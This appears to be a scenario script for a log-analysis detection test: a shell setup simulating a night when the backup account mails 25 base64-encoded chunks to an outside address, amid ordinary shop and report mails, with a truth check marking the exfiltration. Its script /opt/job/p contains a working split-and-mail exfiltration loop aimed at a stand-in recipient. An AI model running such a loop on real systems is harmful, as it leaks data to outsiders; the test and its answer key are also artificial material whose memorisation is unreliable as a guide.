title="The account of the backups mails twenty-five parts to one stranger (mail log only)"
what="Days alike: the backup account mails one short report to root at night, the shop (www-data) one short mail to each customer. One night somebody who came in through the shop's backup job mails 25 parts of 300 KB each from the backup account to keeper88@example.com, a few minutes apart. Only the mail log is collected, traditional stamps."
host=www1.example.org user=backup daemons="cron sshd" audit_rules=audit-none.rules
shift_plan="d1:1d d2:1d d3:1d night:3h after:4h"
setup() {
  mkdir -p /opt/job; head -c 5400000 /dev/urandom > /opt/job/data; chown -R backup: /opt/job
  cat > /opt/job/p <<'P'
#!/bin/bash
cd /opt/job; split -b 216000 data part.
for f in part.*; do base64 $f | mail -s "$f" keeper88@example.com; sleep 0.4; done; rm part.*
P
  cat > /opt/job/report <<'P'
#!/bin/sh
echo "backup of today: 4 sets, no errors" | mail -s "backup report" root
P
  cat > /opt/job/shop <<'P'
#!/bin/sh
for n in $*; do printf 'From: shop@example.org\nTo: buyer%s@example.net\nSubject: Your order %s\n\nThank you.\n' $n $n | /usr/sbin/sendmail -t -f shop@example.org; done
P
  chmod 755 /opt/job/*
}
day() { small_talk 3; service www-data HOME=/ /opt/job/shop "$@"; sleep 1; small_talk 2; service backup HOME=/ /opt/job/report; sleep 1; }
act() {
  phase d1; day 11 12 13; phase d2; day 14 15; phase d3; day 16 17 18 19
  phase night; service backup HOME=/ /opt/job/p
  local n; for n in 1 2 3 4 5 6 7 8 9 10; do mail_in --from "office$n@example.net" --to clerk@example.org --subject "Note $n"; sleep 1; done
  wait_log_count 'to=<keeper88@example.com>.*status=sent' 25 40
  phase after; service www-data HOME=/ /opt/job/shop 20 21; small_talk 3; sleep 1
}
truth() { mail_step parts 'to=<keeper88@example.com>.*status=sent' 'the parts leave'; }
